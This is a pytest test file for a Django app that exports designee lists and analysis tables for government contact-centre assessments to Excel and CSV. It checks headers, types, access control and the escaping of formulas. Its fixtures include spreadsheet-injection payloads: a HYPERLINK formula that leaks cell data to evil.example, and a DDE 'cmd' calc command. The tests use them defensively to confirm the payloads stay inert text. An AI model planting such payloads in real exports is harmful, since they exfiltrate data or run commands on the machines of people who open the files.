"""Organizer exports: the designee list and the analysis table, as Excel workbooks and CSV."""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from assessment.domain import answers_from_state
from assessment.models import AuditEvent, Cycle
from reports import export_tables, exports
from reports.designees import RECORDED_DESIGNATION
from scoring.domain import rescore_cycle, rubric_for
from scoring.models import Rubric
from tests.factories import (
    make_application,
    make_cycle,
    make_jurisdiction,
    make_organizer,
    make_reviewer,
    make_user,
)
from tests.factories.answers import COMPLETE, post_data
from tests.factories.decisions import decide

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_CONTACT = "+1 (555) 010-0311"
HOSTILE_EMAIL = "@SUM(1+1)*cmd|' /C calc'!A0"
SNAPSHOT = {
    "rubric_version": 1,
    "categories": {"A": 14.5, "B": 9, "C": 13, "D": 17, "E": 8, "F": 12, "G": 6, "H": 5},
    "criteria": {"A1": 6, "A2": 2.5, "D7": 4},
    "prerequisites": {"P1": True, "P2": True, "P3": True, "P4": True, "P5": True},
}


def answers(contact_name="Pat Rivera", contact_email="pat.rivera@example.gov", metrics=None):
    """Complete answers as the wizard stores them, with a chosen contact and metrics."""
    step_data = {}
    for step in COMPLETE:
        data = post_data(step)
        step_data[step] = {
            k: v if isinstance(v, list) else [v] for k, v in data.items() if k not in ("version", "action")
        }
    result = answers_from_state({"step_data": step_data})
    result["profile"]["contact_name"] = contact_name
    result["profile"]["contact_email"] = contact_email
    if metrics is not None:
        result["metrics"] = metrics
    return result


@pytest.fixture
def organizer():
    return make_organizer()


@pytest.fixture
def cycle():
    cycle = make_cycle(name="2026–2028")
    rubric_for(cycle)
    return cycle


def apply(cycle, name, population=120_000, status="submitted", **answer_kw):
    return make_application(
        jurisdiction=make_jurisdiction(name=name, population=population),
        cycle=cycle,
        status=status,
        submitted_at=timezone.now() if status == "submitted" else None,
        answers=answers(**answer_kw),
    )


@pytest.fixture
def world(cycle):
    """One application in each situation an export must tell apart."""
    apps = {
        "alpha": apply(cycle, "Alpha City", population=820_000),
        "bravo": apply(cycle, "Bravo County", population=300_000),
        "charlie": apply(cycle, "Charlie Town", population=40_000),
        "delta": apply(cycle, "Delta Draft", status="draft"),
        "hostile": apply(
            cycle,
            HOSTILE_NAME,
            contact_name=HOSTILE_CONTACT,
            contact_email=HOSTILE_EMAIL,
            metrics=[
                {"kind": "service_level", "target": "80%", "latest_value": "-5%"},
                {"kind": "asa", "target": "\t=1+2", "latest_value": "\r@x"},
                {"kind": "other", "name": "Vertical\x0btab\x01metric", "target": "1", "latest_value": "2"},
            ],
        ),
        "control": apply(cycle, "Vertical\x0bTab\x1fCity"),
    }
    rescore_cycle(cycle)
    decide(apps["alpha"], level="Designated with Distinction", total="82.50", snapshot=SNAPSHOT)
    decide(apps["bravo"], published=False)
    decide(apps["charlie"], outcome="not_designated", total=41)
    decide(apps["hostile"])
    decide(apps["control"])
    return apps


def download(client, name, cycle):
    response = client.get(reverse(name, kwargs={"cycle_id": cycle.pk}))
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content)
    return response, body


def workbook(body):
    return load_workbook(io.BytesIO(body))


def by_name(sheet):
    headers = [cell.value for cell in sheet[1]]
    rows = {}
    for row in sheet.iter_rows(min_row=2):
        rows[row[0].value] = {header: cell for header, cell in zip(headers, row, strict=False)}
    return headers, rows


def sheet_xml(body):
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")}


# --- The designee list --------------------------------------------------------


def test_designee_workbook_lists_designees_with_decision_numbers_contacts_and_dates(client, organizer, cycle, world):
    client.force_login(organizer)
    response, body = download(client, "export_designees_xlsx", cycle)
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="designees-2026-2028.xlsx"'
    assert "no-store" in response["Cache-Control"]
    book = workbook(body)
    assert book.sheetnames == ["Designees", "Data dictionary"]
    sheet = book["Designees"]
    headers, rows = by_name(sheet)
    assert headers[:7] == ["Jurisdiction", "Kind", "State", "Population", "Population band", "Level", "Total"]
    assert headers[7:15] == [
        "A Multi-channel access",
        "B Self-service and mobile",
        "C Integrated technology",
        "D Performance measurement and reporting",
        "E Service-delivery accountability",
        "F Citizen participation and transparency",
        "G Workforce and operations",
        "H Planning and improvement",
    ]
    assert headers[15:] == [
        "Contact name",
        "Contact e-mail",
        "Cycle",
        "Valid from",
        "Valid until",
        "Designated on",
        "Published on",
        "Basis",
    ]
    # Not designated and drafts are not designees; an unpublished designation is, for organizers.
    assert set(rows) == {"Alpha City", "Bravo County", HOSTILE_NAME, "VerticalTabCity"}
    alpha = {h: c.value for h, c in rows["Alpha City"].items()}
    assert alpha["Level"] == "Designated with Distinction"
    assert alpha["Total"] == 82.5 and isinstance(alpha["Total"], float)
    assert alpha["A Multi-channel access"] == 14.5  # from the decision's snapshot
    assert alpha["B Self-service and mobile"] == 9 and isinstance(alpha["B Self-service and mobile"], int)
    assert alpha["Population"] == 820_000 and isinstance(alpha["Population"], int)
    assert alpha["Population band"] == "750,000 and over"
    assert alpha["Kind"] == "City"
    assert (alpha["Contact name"], alpha["Contact e-mail"]) == ("Pat Rivera", "pat.rivera@example.gov")
    assert alpha["Cycle"] == "2026–2028"
    assert isinstance(alpha["Valid until"], datetime) and alpha["Valid until"].date() == cycle.valid_until
    assert alpha["Valid from"].date() == cycle.valid_from
    assert alpha["Designated on"].date() == timezone.localdate()
    assert isinstance(alpha["Published on"], datetime)
    assert alpha["Basis"] == "Panel decision"
    assert rows["Bravo County"]["Published on"].value is None
    # Without categories in the snapshot, the rule score's are used.
    bravo_score = world["bravo"].score.result["categories"]["A"]
    assert rows["Bravo County"]["A Multi-channel access"].value == bravo_score


def test_workbooks_freeze_headers_size_columns_and_explain_every_column(client, organizer, cycle, world):
    client.force_login(organizer)
    _response, body = download(client, "export_designees_xlsx", cycle)
    book = workbook(body)
    sheet = book["Designees"]
    assert sheet.freeze_panes == "B2"
    assert sheet.column_dimensions["A"].width == 34
    assert sheet.auto_filter.ref == f"A1:W{sheet.max_row}"
    assert all(cell.font.b for cell in sheet[1])
    dictionary = book["Data dictionary"]
    assert dictionary.freeze_panes == "A2"
    explained = [row[2] for row in dictionary.iter_rows(min_row=2, values_only=True)]
    assert explained == [cell.value for cell in sheet[1]]


def test_formula_like_text_stays_text_and_control_characters_go(client, organizer, cycle, world):
    client.force_login(organizer)
    _response, body = download(client, "export_designees_xlsx", cycle)
    _headers, rows = by_name(workbook(body)["Designees"])
    hostile = rows[HOSTILE_NAME]
    for header, expected in (
        ("Jurisdiction", HOSTILE_NAME),
        ("Contact name", HOSTILE_CONTACT),
        ("Contact e-mail", HOSTILE_EMAIL),
    ):
        cell = hostile[header]
        assert cell.value == expected and isinstance(cell.value, str)
        assert cell.data_type == "s"  # not "f"
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    assert "VerticalTabCity" in rows
    for xml in sheet_xml(body).values():
        assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere
        assert b"\x0b" not in xml and b"\x1f" not in xml


def test_analysis_workbook_has_every_application_and_every_criterion(client, organizer, cycle, world):
    client.force_login(organizer)
    response, body = download(client, "export_analysis_xlsx", cycle)
    assert response["Content-Disposition"] == 'attachment; filename="analysis-2026-2028.xlsx"'
    book = workbook(body)
    assert book.sheetnames == ["Applications", "Data dictionary"]
    sheet = book["Applications"]
    assert sheet.freeze_panes == "B2"
    headers, rows = by_name(sheet)
    assert set(rows) == {
        "Alpha City",
        "Bravo County",
        "Charlie Town",
        "Delta Draft",
        HOSTILE_NAME,
        "VerticalTabCity",
    }
    rubric = rubric_for(cycle)
    criteria = list(rubric.criteria.filter(category__isnull=False).values_list("code", flat=True))
    prerequisites = list(rubric.criteria.filter(category__isnull=True).values_list("code", flat=True))
    assert set(criteria) <= set(headers) and len(criteria) > 20
    assert [f"{code} met" for code in sorted(prerequisites)] == [h for h in headers if h.endswith(" met")]
    assert headers.index("A2") < headers.index("A5") < headers.index("B1")

    alpha = {h: c.value for h, c in rows["Alpha City"].items()}
    assert (alpha["Outcome"], alpha["Score source"], alpha["Total"]) == ("Designated", "Panel decision", 82.5)
    assert alpha["A1"] == 6 and alpha["A2"] == 2.5  # the decision's snapshot
    assert alpha["P1 met"] is True
    assert isinstance(alpha["Submitted at"], datetime)
    assert isinstance(alpha["Decided on"], datetime)

    delta = {h: c.value for h, c in rows["Delta Draft"].items()}
    assert (delta["Status"], delta["Outcome"], delta["Score source"]) == ("Draft", None, "Rule score")
    score = world["delta"].score
    assert delta["Total"] == float(score.total)
    assert delta["Eligible by rule"] is score.eligible
    assert delta["Submitted at"] is None
    assert delta["A1"] == score.result["criteria"]["A1"]
    assert delta["Metrics reported"] == len(COMPLETE["metrics"])
    assert delta["Service level (% answered within N seconds): latest value"] == "78%"
    assert delta["Average speed of answer: target"] == "30 s"
    assert rows["Charlie Town"]["Outcome"].value == "Not designated"

    hostile = rows[HOSTILE_NAME]
    for header, expected in (
        ("Service level (% answered within N seconds): latest value", "-5%"),
        ("Average speed of answer: target", "\t=1+2"),
        ("Average speed of answer: latest value", "\r@x"),  # written by lxml (pikepdf needs it) as &#13;: kept
    ):
        assert hostile[header].value == expected and hostile[header].data_type == "s"
    assert hostile["Other metrics"].value == "Verticaltabmetric: target 1, 2"
    for xml in sheet_xml(body).values():
        assert b"<f>" not in xml and b"<f " not in xml


def test_data_dictionary_says_what_each_criterion_means(client, organizer, cycle, world):
    client.force_login(organizer)
    _response, body = download(client, "export_analysis_xlsx", cycle)
    dictionary = workbook(body)["Data dictionary"]
    entries = {row[2]: row for row in dictionary.iter_rows(min_row=2, values_only=True)}
    a2 = rubric_for(cycle).criteria.get(code="A2")
    sheet, letter, header, kind, meaning, rule, max_points = entries["A2"]
    assert (sheet, header, kind) == ("Applications", "A2", "number")
    assert a2.title in meaning and "Multi-channel access" in meaning
    assert "profile.live_agent_hours_per_week" in rule and "at least 60 hours → 3" in rule
    assert max_points == 3
    assert "Pass or fail" in entries["P4 met"][4]
    assert entries["Submitted at"][3] == "date and time"
    assert len(entries) == len(next(iter(workbook(body)["Applications"].iter_rows(max_row=1))))


def test_csv_exports_match_the_workbooks_and_escape_formulas(client, organizer, cycle, world):
    client.force_login(organizer)
    response, body = download(client, "export_designees_csv", cycle)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="designees-2026-2028.csv"'
    assert body.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    reader = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    _xlsx, xlsx_body = download(client, "export_designees_xlsx", cycle)
    assert reader[0] == [cell.value for cell in workbook(xlsx_body)["Designees"][1]]
    rows = {row[0]: dict(zip(reader[0], row, strict=True)) for row in reader[1:]}
    assert "'" + HOSTILE_NAME in rows and HOSTILE_NAME not in rows
    hostile = rows["'" + HOSTILE_NAME]
    assert hostile["Contact name"] == "'" + HOSTILE_CONTACT
    assert hostile["Contact e-mail"] == "'" + HOSTILE_EMAIL
    alpha = rows["Alpha City"]
    assert float(alpha["Total"]) == 82.5 and alpha["Population"] == "820000"
    assert date.fromisoformat(alpha["Valid until"]) == cycle.valid_until
    assert alpha["Published on"] and rows["Bravo County"]["Published on"] == ""
    assert "Charlie Town" not in rows and "VerticalTabCity" in rows

    _response, body = download(client, "export_analysis_csv", cycle)
    reader = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(reader) == 1 + len(world)
    rows = {row[0]: dict(zip(reader[0], row, strict=True)) for row in reader[1:]}
    hostile = rows["'" + HOSTILE_NAME]
    assert hostile["Service level (% answered within N seconds): latest value"] == "'-5%"
    assert hostile["Average speed of answer: target"] == "'\t=1+2"
    assert rows["Alpha City"]["P1 met"] == "yes" and float(rows["Alpha City"]["A2"]) == 2.5
    submitted = datetime.fromisoformat(rows["Alpha City"]["Submitted at"])
    assert submitted.date() == timezone.localdate(world["alpha"].submitted_at)


def test_recorded_designations_are_in_the_designee_list(client, organizer):
    cycle = make_cycle(name="2013–2015", valid_from=date(2013, 10, 14))
    application = apply(cycle, "City of Durham")
    AuditEvent.objects.create(
        action=RECORDED_DESIGNATION, application=application, summary="Designated", data={"designated_on": "2013-10-14"}
    )
    cycle.status = Cycle.Status.PUBLISHED
    cycle.save()
    rescore_cycle(cycle)
    client.force_login(organizer)
    _response, body = download(client, "export_designees_xlsx", cycle)
    _headers, rows = by_name(workbook(body)["Designees"])
    durham = {h: c.value for h, c in rows["City of Durham"].items()}
    assert durham["Level"] == "Designated"
    assert durham["Basis"] == "Recorded designation"
    assert durham["Designated on"] == datetime(2013, 10, 14)
    assert durham["Total"] == float(application.score.total)
    _response, body = download(client, "export_analysis_xlsx", cycle)
    _headers, rows = by_name(workbook(body)["Applications"])
    assert rows["City of Durham"]["Outcome basis"].value == "Recorded designation"


def test_a_cycle_without_applications_or_rubric_exports_headers_only(client, organizer):
    cycle = make_cycle()
    Rubric.objects.filter(cycle=cycle).delete()  # as for a cycle made before scoring existed
    client.force_login(organizer)
    # The headers come from the product's default rubric: a category column on each sheet, criteria on the analysis.
    for name, header in (("export_designees_xlsx", "A Multi-channel access"), ("export_analysis_xlsx", "A1")):
        _response, body = download(client, name, cycle)
        book = workbook(body)
        assert book.worksheets[0].max_row == 1
        assert header in [cell.value for cell in book.worksheets[0][1]]
    _response, body = download(client, "export_analysis_csv", cycle)
    assert len(body.decode("utf-8-sig").splitlines()) == 1
    assert not Rubric.objects.filter(cycle=cycle).exists()  # read only: the default rubric was not installed


def test_exports_read_a_constant_number_of_queries(cycle, world):
    def queries(table_of):
        with CaptureQueriesContext(connection) as captured:
            list(table_of(cycle).rows)
        return len(captured)

    # Each table at either size: the rubric, its categories, criteria and levels; then one query for
    # the rows (the applications with their current decision and score joined or annotated).
    tables = ("designee_table", "analysis_table")
    assert {name: queries(getattr(export_tables, name)) for name in tables} == {name: 5 for name in tables}
    for index in range(5):
        decide(apply(cycle, f"More {index}"), snapshot=SNAPSHOT)
    rescore_cycle(cycle)
    assert {name: queries(getattr(export_tables, name)) for name in tables} == {name: 5 for name in tables}


def test_exports_page_links_every_download(client, organizer, cycle, world):
    other = make_cycle(name="2024–2026")
    client.force_login(organizer)
    response = client.get(reverse("cycle_exports", kwargs={"cycle_id": cycle.pk}))
    assert response.status_code == 200
    page = response.content.decode()
    for name in ("export_designees_xlsx", "export_designees_csv", "export_analysis_xlsx", "export_analysis_csv"):
        assert reverse(name, kwargs={"cycle_id": cycle.pk}) in page
    assert reverse("cycle_exports", kwargs={"cycle_id": other.pk}) in page
    assert "6 applications" in page and "4 designees, 3 of them published" in page


@pytest.mark.parametrize(
    "name", ["cycle_exports", "export_designees_xlsx", "export_designees_csv", "export_analysis_xlsx"]
)
def test_only_organizers_export(client, cycle, world, name):
    url = reverse(name, kwargs={"cycle_id": cycle.pk})
    response = client.get(url)
    assert response.status_code == 302 and response.url.startswith(reverse("login"))
    for user in (make_user(jurisdiction=world["alpha"].jurisdiction), make_reviewer()):
        client.force_login(user)
        assert client.get(url).status_code == 403
    client.force_login(make_organizer())
    assert client.get(reverse(name, kwargs={"cycle_id": 999_999})).status_code == 404
    assert client.post(url).status_code == 405


def test_cells_are_made_safe_one_by_one():
    assert exports.csv_cell("=1+2") == "'=1+2"
    assert exports.csv_cell("-3") == "'-3"
    assert exports.csv_cell(-3) == "-3"
    assert exports.csv_cell(2.5) == "2.5"
    assert exports.csv_cell("a\x0bb\x00c") == "abc"
    assert exports.csv_cell(None) == "" and exports.csv_cell(True) == "yes"
    assert exports.number(Decimal("72.00")) == 72 and exports.number(12.345) == 12.35


def test_every_formula_trigger_stays_text_in_a_workbook():
    values = [trigger + "1+1" for trigger in exports.FORMULA_TRIGGERS] + ["=1+1\x0b", "\x01=SUM(A1)", ["odd", "value"]]
    table = exports.Table("Sheet", [exports.Column(f"c{i}", "") for i in range(len(values))], [values, [1, 2.5, None]])
    out = io.BytesIO()
    exports.write_xlsx(out, [table])
    row = next(load_workbook(io.BytesIO(out.getvalue()))["Sheet"].iter_rows(min_row=2, max_row=2))
    assert all(cell.data_type == "s" and isinstance(cell.value, str) for cell in row)
    assert row[0].value == "=1+1" and row[-3].value == "=1+1" and row[-2].value == "=SUM(A1)"
    assert row[-1].value == "['odd', 'value']"
    assert all(cell.quotePrefix for cell in row[:-1])
